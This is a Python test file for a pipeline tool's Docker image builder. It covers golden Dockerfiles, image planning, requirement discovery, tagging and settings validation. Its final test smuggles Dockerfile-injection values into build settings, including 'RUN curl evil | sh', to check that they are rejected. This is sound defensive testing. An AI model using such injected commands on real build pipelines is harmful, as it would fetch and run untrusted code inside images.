"""What an image holds, decided before anything is built: the plan, the Dockerfile (golden), the tag's inputs."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from pipecast.build.dockerfile import render_dockerfile, requirements_text
from pipecast.build.images import dockerfiles
from pipecast.build.plan import ImageSpec, fsspec_backend, pipeline_requirements, plan_images
from pipecast.build.settings import BuildSettings, build_settings
from pipecast.build.tag import image_tag, repository_name, tree_digest
from pipecast.build.wheel import pipecast_dependencies, wheel_name
from pipecast.compiler.loader import load_pipeline
from pipecast.errors import ValidationError
from pipecast.flow import target_image_requirements
from tests.helpers.cases import ROOT

HERE = Path(__file__).parent
GOLDEN = HERE / "golden"
CASES = {
    "quickstart": (ROOT / "examples" / "quickstart.py", {"parent_image": "python:3.11-slim"}),
    "shipping": (HERE / "shipping_case.py", {"parent_image": "registry.local/base/python:3.11"}),
    "shipping-from-index": (HERE / "shipping_case.py", {"parent_image": "python:3.12-slim", "pipecast_from": "index",
                                                        "wheelhouse": False}),
    # `--target tekton`: the schedule's pod runs pipecast in this image, so the target adds the Kubernetes client
    "scheduled-tekton": (HERE / "scheduled_case.py", {"parent_image": "python:3.11-slim", "target": "tekton"}),
}


def cli_dockerfile(path: Path, overrides: dict) -> str:
    flags = [f"--parent-image={overrides['parent_image']}"]
    if "target" in overrides:
        flags.append(f"--target={overrides['target']}")
    if "wheelhouse" in overrides:
        flags.append("--wheelhouse" if overrides["wheelhouse"] else "--no-wheelhouse")
    done = subprocess.run([sys.executable, "-m", "pipecast.cli", "build", str(path), "--dockerfile", *flags],
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.mark.parametrize("name", sorted(CASES))
def test_dockerfile_golden(name, request):
    path, overrides = CASES[name]
    pipeline = load_pipeline(str(path)).build()
    build = {k: v for k, v in overrides.items() if k != "target"}
    extra = target_image_requirements(pipeline, overrides.get("target"), {})
    text = "\n".join(text for _, text in dockerfiles(pipeline, build, extra=extra))
    golden = GOLDEN / f"{name}.Dockerfile"
    if request.config.getoption("--update-goldens"):
        golden.write_text(text)
    assert golden.exists(), f"no golden {golden.name}: run pytest --update-goldens and review it"
    assert text == golden.read_text(), f"{golden.name} differs from its golden"
    if "pipecast_from" not in overrides:  # the command line prints the same bytes (no flag for pipecast_from)
        assert cli_dockerfile(path, overrides) == text


def test_plan_groups_steps_by_packages_and_adds_the_store_backend():
    pipeline = load_pipeline(str(HERE / "shipping_case.py")).build()
    settings = build_settings(pipeline, {"parent_image": "p:1"})
    specs = plan_images(pipeline, settings, HERE, pipeline.artifact_root)
    assert [spec.steps for spec in specs] == [("load",), ("fit", "score")]  # report names its own image
    common = {"numpy==2.1.3", "pandas>=2.2", "s3fs", *pipecast_dependencies()}
    assert set(specs[0].requirements) == common
    assert set(specs[1].requirements) == common | {"scikit-learn==1.5.2"}
    assert specs[0].pipecast == wheel_name()  # an editable install ships as a wheel, never unpinned
    assert specs[0].apt_packages == ("libgomp1",) and specs[0].wheelhouse


@pytest.mark.parametrize(("root", "backend"), [("s3://b/p", "s3fs"), ("gs://b", "gcsfs"), ("az://c/p", "adlfs"),
                                               ("abfs://c", "adlfs"), ("file:///tmp/x", None), ("/tmp/x", None),
                                               (None, None)])
def test_fsspec_backend(root, backend):
    assert fsspec_backend(root) == backend


def test_requirements_found_at_the_import_root(tmp_path):
    pipeline = load_pipeline(str(ROOT / "examples" / "quickstart.py")).build()
    assert pipeline_requirements(pipeline, tmp_path) == ()
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "x"\ndependencies = ["rich>=13", "attrs==24.2.0"]\n')
    assert pipeline_requirements(pipeline, tmp_path) == ("rich>=13", "attrs==24.2.0")
    (tmp_path / "requirements.txt").write_text("numpy==2.1.3\n")  # requirements.txt wins over pyproject.toml
    assert pipeline_requirements(pipeline, tmp_path) == ("numpy==2.1.3",)
    (tmp_path / "requirements.txt").write_text("--index-url http://x\n")
    with pytest.raises(ValidationError, match=r"requirements.txt:1: '--index-url http://x' is a pip option"):
        pipeline_requirements(pipeline, tmp_path)


def test_pipecast_from_the_index_is_pinned_and_needs_no_wheel():
    spec = ImageSpec(steps=("a",), parent="p", apt_packages=(), requirements=("numpy==2.1.3",),
                     pipecast="pipecast==0.1.0", code=True, wheelhouse=False)
    assert requirements_text(spec) == "numpy==2.1.3\npipecast==0.1.0\n"
    assert "self/" not in render_dockerfile(spec, pipeline="p", version="0.1.0")


def test_tag_follows_every_input(tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM p\n")
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "flow.py").write_text("x = 1\n")
    first = image_tag(tree_digest(tmp_path), "sha256:parent")
    assert len(first) == 32 and first == image_tag(tree_digest(tmp_path), "sha256:parent")
    assert image_tag(tree_digest(tmp_path), "sha256:other-parent") != first
    (tmp_path / "code" / "flow.py").write_text("x = 2\n")
    assert image_tag(tree_digest(tmp_path), "sha256:parent") != first
    assert repository_name("My_Pipeline.v2") == "my_pipeline.v2" and repository_name("a b") == "a-b"


def test_bad_build_settings_are_reported_at_the_pipeline(tmp_path):
    (tmp_path / "flow_bad_build.py").write_text(
        "from pipecast import pipeline, step\n\n@step\ndef one() -> int:\n    return 1\n\n"
        "@pipeline(settings={'build': {'paren_image': 'x', 'code': 'tarball', 'max_context_mb': 0}})\n"
        "def flow_bad_build():\n    one()\n")
    pipeline = load_pipeline(str(tmp_path / "flow_bad_build.py")).build()
    with pytest.raises(ValidationError) as err:
        build_settings(pipeline, {})
    text = str(err.value)
    assert "cannot be built (3 problems)" in text
    assert "flow_bad_build.py:7: target 'build': unknown setting 'paren_image'" in text
    assert "did you mean 'parent_image'?" in text
    assert "setting 'code'" in text and "setting 'max_context_mb'" in text


def test_default_parent_is_this_python():
    assert BuildSettings().parent == f"python:{sys.version_info.major}.{sys.version_info.minor}-slim"


def test_hostile_values_cannot_change_the_dockerfile(tmp_path):
    pipeline = load_pipeline(str(ROOT / "examples" / "quickstart.py")).build()
    for overrides, fragment in [({"parent_image": "python:3.11\nRUN curl evil | sh"}, "setting 'parent_image'"),
                                ({"apt_packages": ["vim\nRUN evil"]}, "is not a Debian package name"),
                                ({"repository": "reg/x y"}, "setting 'repository'")]:
        with pytest.raises(ValidationError, match=fragment):
            build_settings(pipeline, overrides)
